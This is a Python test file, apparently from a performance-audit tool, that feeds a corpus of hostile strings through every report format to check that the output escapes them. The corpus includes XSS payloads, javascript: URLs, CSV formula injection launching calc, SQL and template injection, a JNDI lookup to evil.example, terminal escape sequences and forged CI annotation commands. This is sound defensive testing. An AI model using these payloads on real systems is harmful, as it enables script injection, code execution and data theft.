"""Hostile text through every output: the XSS corpus placed in every string an audited project
controls (labels, routes, view names, SQL, file paths, finding messages, fixes, models, index
advice, exception messages, notes, environment), rendered as the HTML run report and comparison
(opened in headless Chromium: no script runs, nothing loads), Markdown (rendered: no tag, link or
image comes out of project text), the terminal (no escape sequence or rich markup gets through),
JUnit XML (well-formed), GitHub annotations (one command a line) and report.json (round trip).
"""

from __future__ import annotations

import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from perftoolkit.core.budgets.rules import BudgetResult, Budgets, EndpointBudget, Limits, evaluate
from perftoolkit.core.events import CallSite
from perftoolkit.core.findings import Finding, Fix, IndexAdvice
from perftoolkit.core.runs.compare import compare
from perftoolkit.core.runs.run import AuditRun, BudgetStatus
from perftoolkit.core.runs.taskerrors import LoadException
from perftoolkit.reporting.comparing import write_comparison
from perftoolkit.reporting.console import (
    make_console,
    render_audit_summary,
    render_budget_result,
    render_indexes,
    render_run,
)
from perftoolkit.reporting.github import budget_annotations
from perftoolkit.reporting.html import write_run_html
from perftoolkit.reporting.junit import budget_result_to_junit
from perftoolkit.reporting.markdown import (
    budget_result_to_markdown,
    comparison_to_markdown,
    run_to_markdown,
)
from perftoolkit.reporting.schema import dumps, run_from_dict, run_to_dict
from tests.support import browser as support
from tests.support.runs import Endpoint, make_run

LONG = "A" * 20_000 + "<script>alert('long')</script>"
CORPUS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "javascript:alert(4)",
    "[click me](javascript:alert(5))",
    "![pixel](https://evil.example/pixel.png)",
    '<a href="https://evil.example/">link</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "</style><style>body{background:url(https://evil.example/bg)}</style>",
    "<!-- unclosed comment",
    '=HYPERLINK("https://evil.example/","csv")',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE users; --",
    "{{ 7*7 }} {% debug %} ${7*7}",
    "a\x00b\x07c\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link",
    "evil\u202etxt.exe \u200b\u2066isolate\u2069",
    "[link=https://evil.example]rich link[/link] [bold red]rich style[/]",
    "@everyone #1 https://evil.example/auto www.evil.example user@evil.example",
    "*emphasis* _under_ ~~strike~~ `code` $x^2$ | pipe | \\ backslash",
    "- list item\n# heading\n> quote\n---",
    "\r\n::error file=x::forged annotation%0A::warning::forged",
    ']]></failure><injected attr="1"/><!--',
    "${jndi:ldap://evil.example/a}",
    LONG,
]


def _finding(n: int, text: str) -> Finding:
    return Finding(
        kind="n_plus_one",
        method="GET",
        route=f"api/{n}/{text}/",
        model=text,
        field="x",
        path=text,
        repeats=5,
        fingerprint=f"{n:016x}",
        sql_example=f'SELECT \'{text}\' FROM "t" WHERE "a" = %s',
        callsite=CallSite(f"app/{text}.py", 7, text),
        origin=CallSite(f"app/{text}/views.py", 3, text),
        fix=Fix(action="select_related", code=f'.select_related("{text}")', note=text),
        severity="error",
        message=f"Message: {text}",
    )


def _endpoint(n: int, text: str, *, slower: bool = False) -> Endpoint:
    return Endpoint(
        "GET",
        f"api/{n}/{text}/",
        [5] if not slower else [6],
        12,
        (10.0, 20.0, 30.0),
        view=text,
        table=f"t{n}_{text}",
        findings=[] if slower else [_finding(n, text)],
        budget=BudgetStatus({"queries": 4}, "exceeded", (text,)),
        durations=[20.0 if slower else 10.0],
    )


def hostile_run(label: str, *, slower: bool = False) -> AuditRun:
    run = make_run(
        label,
        [_endpoint(n, text, slower=slower) for n, text in enumerate(CORPUS)],
        notes=CORPUS,
        indexes=[
            IndexAdvice(
                table=text,
                columns=(text, f"-{text}"),
                status="verified",
                model=text,
                reason=text,
                plan_before=text,
                plan_after=text,
                migration=text,
                name=text,
            )
            for text in CORPUS
        ],
    )
    assert run.load is not None
    load = replace(
        run.load,
        exceptions=tuple(
            LoadException(n + 1, text, f'File "{text}.py", line 3, in {text}: {text}')
            for n, text in enumerate(CORPUS)
        ),
    )
    return run.with_changes(
        complete=False,
        incomplete_reason=" ".join(CORPUS[:-1]),
        environment={text: text for text in CORPUS},
        load=load,
    )


BEFORE = hostile_run(" ".join(CORPUS[:-1]))
AFTER = hostile_run(LONG, slower=True)


def budget_result() -> BudgetResult:
    budgets = Budgets(
        endpoints=tuple(
            EndpointBudget("GET", f"api/{n}/{text}/", Limits(queries=2), line=n + 1)
            for n, text in enumerate(CORPUS)
        )
        + (EndpointBudget("POST", f"api/{CORPUS[0]}/", Limits(queries=1)),),
        source=f"{CORPUS[1]}.toml",
    )
    return evaluate(BEFORE, budgets)


def test_the_corpus_reaches_every_output() -> None:
    """The hostile runs really carry the corpus where the views read it."""
    comparison = compare(BEFORE, AFTER)

    assert len(BEFORE.endpoints) == len(BEFORE.findings) == len(CORPUS)
    assert len(comparison.findings_fixed) == len(CORPUS)
    assert len(comparison.regressions) == len(CORPUS)  # one more query, twice as slow
    assert len(budget_result().failed) == len(CORPUS)


# -- Markdown: rendered, no tag, link or image comes out of project text ------------------------

# What perftoolkit's own Markdown renders to; anything else came from project text.
ALLOWED_TAGS = {
    "h2", "h3", "p", "strong", "em", "code", "ul", "li", "table", "thead", "tbody", "tr", "th",
    "td", "blockquote", "details", "summary", "br",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _rendered_tags(markdown: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    from markdown_it import MarkdownIt

    # html=True: raw HTML in the Markdown would come through; the escaping must stop it.
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser = _Tags()
    parser.feed(html.render(markdown))
    return parser.tags


@pytest.mark.parametrize(
    "name",
    ["run", "comparison", "budgets"],
)
def test_markdown_keeps_the_corpus_inert(name: str) -> None:
    markdown = {
        "run": lambda: run_to_markdown(BEFORE),
        "comparison": lambda: comparison_to_markdown(compare(BEFORE, AFTER)),
        "budgets": lambda: budget_result_to_markdown(budget_result()),
    }[name]()

    tags = _rendered_tags(markdown)

    assert {tag for tag, _ in tags} <= ALLOWED_TAGS
    assert [attrs for tag, attrs in tags if attrs and tag != "td" and tag != "th"] == []
    assert "\x1b" not in markdown
    assert "\u202e" not in markdown
    assert not re.search(r"^\s*(::|#|>|-|\d+\.)\s*(error|heading|quote|list)", markdown, re.M)


# -- JUnit XML and GitHub annotations -----------------------------------------------------------


def test_junit_is_well_formed_with_the_corpus_in_names_and_messages() -> None:
    xml = budget_result_to_junit(budget_result())

    root = ET.fromstring(xml)  # raises on anything not well-formed

    cases = root.findall("./testsuite/testcase")
    names = [c.get("name") for c in cases]
    assert len(names) == len(CORPUS) + 1
    assert f"GET api/0/{CORPUS[0]}/" in names  # markup kept as text, escaped by the writer
    failures = [c.find("failure") for c in cases if c.find("failure") is not None]
    assert len(failures) == len(CORPUS)
    assert any("U+001B" in (f.text or "") for f in failures if f is not None)
    assert "<injected" not in xml


def test_github_annotations_are_one_command_a_line() -> None:
    commands = budget_annotations(budget_result(), path_for=lambda f: f, budget_file="b.toml")

    assert len(commands) == len(CORPUS)
    for command in commands:
        assert "\n" not in command
        assert "\r" not in command
        head, _, message = command.partition("::")[2].partition("::")
        assert command.startswith("::error ")
        # Properties hold no raw separator; the message no raw %, so nothing can be decoded
        # into a second command.
        assert all(":" not in value for value in re.findall(r"=([^,]*)", head))
        assert re.search(r"%(?!25|0A|0D|3A|2C)", message) is None


# -- the terminal ---------------------------------------------------------------------------------

# rich's own styling: SGR sequences only (colours, bold), nothing else a terminal acts on.
_SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize("view", ["run", "audit", "indexes", "budgets"])
def test_terminal_output_lets_no_escape_sequence_or_markup_through(view: str) -> None:
    out = io.StringIO()
    console = make_console(out, width=200)
    console.force_terminal = True  # render styles as a terminal would get them
    if view == "run":
        render_run(BEFORE, console)
    elif view == "audit":
        render_audit_summary(BEFORE, console, files=[("report", CORPUS[0])])
    elif view == "indexes":
        render_indexes(BEFORE.indexes, console, notes=CORPUS)
    else:
        render_budget_result(budget_result(), console)
    text = out.getvalue()

    assert _SGR.sub("", text).count("\x1b") == 0
    assert "\x07" not in text
    assert "\u202e" not in text
    if view != "budgets":
        # rich markup in project text is shown, not applied.
        assert "[bold red]rich style[/]" in _SGR.sub("", text)


def test_report_json_round_trips_the_corpus() -> None:
    data = json.loads(dumps(run_to_dict(BEFORE)))

    again = run_from_dict(data)

    assert again.label == BEFORE.label
    assert [f.message for f in again.findings] == [f.message for f in BEFORE.findings]
    assert again.load is not None
    assert [e.message for e in again.load.exceptions] == CORPUS


# -- HTML in headless Chromium ----------------------------------------------------------------


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    if (reason := support.unavailable_reason()) is not None:
        support.skip_or_fail(reason)
    with support.chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("xss")
    write_run_html(BEFORE, out / "run" / "index.html", targets={})
    write_comparison(BEFORE, AFTER, out / "compare")
    return {"run": out / "run" / "index.html", "compare": out / "compare" / "index.html"}


# Everything a page could do with a string that got past the escaping.
_ACTIVE_CONTENT = """() => {
  const all = [...document.querySelectorAll('*')];
  return {
    scripts: document.scripts.length,
    styles: document.querySelectorAll('style').length,
    handlers: all.flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on'))
                                               .map(a => e.tagName + ' ' + a.name)),
    embeds: document.querySelectorAll('img, iframe, object, embed, link, video, audio, '
                                      + 'source, base, meta[http-equiv="refresh"], injected').length,
    links: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
                                                     .filter(h => !h.startsWith('#')),
    text: document.body.innerText,
  };
}"""


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("name", ["run", "compare"])
def test_html_runs_no_script_and_loads_nothing(
    chromium: Any, pages: dict[str, Path], name: str
) -> None:
    url = pages[name].as_uri()
    context = chromium.new_context()
    page = context.new_page()
    problems: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    page.on(
        "console",
        lambda m: (
            problems.append(f"console {m.type}: {m.text}")
            if m.type in ("error", "warning")
            else None
        ),
    )
    page.on("request", lambda r: requests.append(r.url) if r.url != url else None)
    try:
        page.goto(url, timeout=30_000)
        page.wait_for_timeout(500)  # an onerror or a timer would have fired by now
        found = page.evaluate(_ACTIVE_CONTENT)
    finally:
        context.close()

    assert problems == []
    assert requests == []
    assert (found["scripts"], found["styles"]) == (1, 1)  # the report's own, by hash
    assert found["handlers"] == []
    assert found["embeds"] == 0
    assert found["links"] == []
    # The text is shown as it was written, not dropped.
    assert "<script>alert(1)</script>" in found["text"]
    assert "[click me](javascript:alert(5))" in found["text"]
